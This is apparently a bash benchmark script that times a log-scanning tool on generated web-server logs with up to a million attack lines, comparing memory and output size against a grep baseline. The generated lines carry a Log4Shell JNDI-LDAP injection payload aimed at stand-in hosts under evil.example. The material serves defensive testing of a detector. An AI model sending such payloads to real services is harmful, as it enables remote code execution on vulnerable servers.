#!/usr/bin/env bash
# Log flood (issue 11 item 2): a web server flooded with attack lines. Peak memory, time
# and the size of the document the log collector writes, for 100,000 and 1,000,000 attack
# lines side by side (the goal: at most 256 MB for 1,000,000 lines, memory and document
# size independent of the count), with `grep -cF '${'` on the same file as the baseline of
# reading it at all. The collector runs as `examples/scan_doc` of praxcheck-logscan (scan,
# document, pretty JSON: what `praxcheck logs` stores before the assessment), so that the
# benchmark does not need the whole program in release; set PRAXCHECK_BIN to measure
# `praxcheck logs --format json` instead.
#
# The flood is generated here (awk, seeded by its line numbers): access-log lines with a
# `${jndi:ldap://…}` payload in the query string, 64 callback hosts, one new host every
# 100 lines, 30 days, and a Log4j stack frame `JndiLookup.lookup(` every 1000 lines.
# Files are cached in target/bench-logflood. Build is --release.
#
# BASELINE_BIN=path runs a build of the collector before issue 11 side by side (its
# `examples/scan`, which prints every trace as a JSON line: build it from commit 6f9c234 with
# `git checkout 6f9c234 -- crates/logscan/src crates/model/src`, `cargo build --release -p
# praxcheck-logscan --example scan`, copy the binary, `git checkout HEAD -- crates`).
#
# Usage: bench/logflood.sh [RUNS (default 3)]
set -euo pipefail
cd "$(dirname "$0")/.."
runs=${1:-3}
cache=target/bench-logflood
mkdir -p "$cache"
if [ -n "${PRAXCHECK_BIN:-}" ]; then
  run() { "$PRAXCHECK_BIN" logs -q --path "$1" --format json --output "$2" --fail-on none; }
  label="praxcheck logs --format json"
else
  cargo build --release -q -p praxcheck-logscan --example scan_doc
  run() { target/release/examples/scan_doc "$1" > "$2"; }
  label="logscan scan_doc (collector + JSON)"
fi

gen() { # LINES FILE
  [ -s "$2" ] && return
  awk -v n="$1" 'BEGIN {
    for (i = 0; i < n; i++) {
      day = 1 + int(i * 30 / n)
      host = (i % 100 == 0) ? sprintf("x%d.evil.example", i) : sprintf("h%d.evil.example", i % 64)
      printf "198.51.100.%d - - [%02d/Nov/2026:%02d:%02d:%02d +0100] \"GET /?q=${jndi:ldap://%s:1389/a} HTTP/1.1\" 404 153\n", i % 250, day, int(i / 3600) % 24, int(i / 60) % 60, i % 60, host
      if (i % 1000 == 999) print "\tat org.apache.logging.log4j.core.lookup.JndiLookup.lookup(JndiLookup.java:56)"
    }
  }' > "$2.tmp" && mv "$2.tmp" "$2"
}

echo "machine: $(nproc) cores, $(uname -m), shared with other builds; $(date -u +%Y-%m-%d)"
printf '%-10s %-34s %10s %12s %12s\n' lines command seconds "peak RSS MB" "output bytes"
for n in 100000 1000000; do
  f="$cache/flood-$n.log"
  gen "$n" "$f"
  for r in $(seq 1 "$runs"); do
    /usr/bin/time -f '%e %M' -o "$cache/time" grep -cF '${' "$f" > "$cache/grep.out"
    read -r s kb < "$cache/time"
    printf '%-10s %-34s %10s %12s %12s\n' "$n" "grep -cF '\${' (baseline)" "$s" "$((kb / 1024))" "$(stat -c %s "$cache/grep.out")"
    /usr/bin/time -f '%e %M' -o "$cache/time" bash -c "$(declare -f run); run '$f' '$cache/doc-$n.json'"
    read -r s kb < "$cache/time"
    printf '%-10s %-34s %10s %12s %12s\n' "$n" "$label" "$s" "$((kb / 1024))" "$(stat -c %s "$cache/doc-$n.json")"
    if [ -n "${BASELINE_BIN:-}" ]; then
      /usr/bin/time -f '%e %M' -o "$cache/time" "$BASELINE_BIN" "$f" > "$cache/baseline-$n.jsonl"
      read -r s kb < "$cache/time"
      printf '%-10s %-34s %10s %12s %12s\n' "$n" "before issue 11 (every trace)" "$s" "$((kb / 1024))" "$(stat -c %s "$cache/baseline-$n.jsonl")"
    fi
  done
done
# The counts are complete: every attack line is counted.
python3 - "$cache" <<'PY'
import json, sys
for n in (100000, 1000000):
    d = json.load(open(f"{sys.argv[1]}/doc-{n}.json"))
    s = d["inventory"]["log_summary"]
    assert s["traces"] == n, (n, s["traces"])
    print(f"{n}: traces {s['traces']}, executed {s['executed']}, hosts listed {len(s['hosts'])}"
          f" (+{s.get('traces_of_unlisted_hosts', 0)} traces of unlisted hosts), days {len(s['days'])},"
          f" sample {len(d['inventory']['log_evidence'])}")
PY
